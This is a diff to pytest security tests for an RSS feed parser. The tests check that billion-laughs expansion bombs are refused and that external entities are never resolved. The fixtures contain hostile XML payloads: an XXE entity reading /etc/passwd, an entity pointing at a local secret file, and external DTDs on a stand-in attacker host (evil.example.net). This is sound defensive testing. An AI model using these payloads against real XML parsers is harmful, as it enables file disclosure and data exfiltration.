@@ -325,16 +325,61 @@ XXE = b"""<?xml version="1.0"?>
 </channel></rss>"""
 
 
-@pytest.mark.parametrize(
-    "body", [pytest.param(BILLION_LAUGHS, id="billion-laughs"), pytest.param(XXE, id="xxe")]
-)
-def test_entity_declarations_are_refused_before_anything_is_yielded(
-    serve: Serve, body: bytes
-) -> None:
-    yielded, error = fetch_expecting_error(serve, body)
+def test_a_billion_laughs_bomb_is_refused_before_anything_is_yielded(serve: Serve) -> None:
+    yielded, error = fetch_expecting_error(serve, BILLION_LAUGHS)
 
     assert yielded == []
-    assert "entities" in str(error)
+    assert "entity expansion bomb" in str(error)
+
+
+def test_a_nested_entity_too_small_for_libxml2_to_stop_is_refused_all_the_same(
+    serve: Serve,
+) -> None:
+    nested = XXE.replace(
+        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', b'<!ENTITY a "ha"><!ENTITY xxe "&a;&a;">'
+    )
+    yielded, error = fetch_expecting_error(serve, nested)
+
+    assert yielded == [] and "entity expansion bomb" in str(error)
+
+
+def test_external_entities_are_never_read_and_the_entries_beside_them_are_kept(
+    serve: Serve, tmp_path: Path
+) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-CONTENT")
+    asked: list[str] = []
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        asked.append(str(request.url))
+        return serving(body)(request)
+
+    body = f"""<?xml version="1.0"?>
+<!DOCTYPE rss [
+  <!ENTITY file SYSTEM "{secret.as_uri()}">
+  <!ENTITY remote SYSTEM "https://evil.example.net/steal.dtd">
+  <!ENTITY % dtd SYSTEM "https://evil.example.net/more.dtd"> %dtd;
+  <!ENTITY nbsp "&#160;">
+]>
+<rss version="2.0"><channel><title>hostile</title>
+<item><title>Good one</title><link>https://arxiv.org/abs/2401.00011</link>
+<description>An intact abstract.</description></item>
+<item><title>Leak &file;&remote; here</title><link>https://arxiv.org/abs/2401.00012</link>
+<description>&file;</description></item>
+<item><title>Good&nbsp;two</title><link>https://arxiv.org/abs/2401.00013</link>
+<description>Another intact abstract.</description></item>
+</channel></rss>""".encode()
+    recorded = serve(handler)
+    source = FeedSource(name="test-feed", url=URL, fetcher=recorded.fetcher)
+    found = records(list(source.fetch()))
+
+    assert found["arxiv:2401.00011"].title == "Good one"
+    assert found["arxiv:2401.00011"].abstract == "An intact abstract."
+    assert found["arxiv:2401.00013"].abstract == "Another intact abstract."
+    # Unexpanded, so gone from the text: neither the file nor the network was read.
+    assert found["arxiv:2401.00012"].title == "Leak here"
+    assert all("TOP-SECRET" not in repr(record) for record in found.values())
+    assert asked == [URL]
 
 
 @pytest.mark.parametrize(
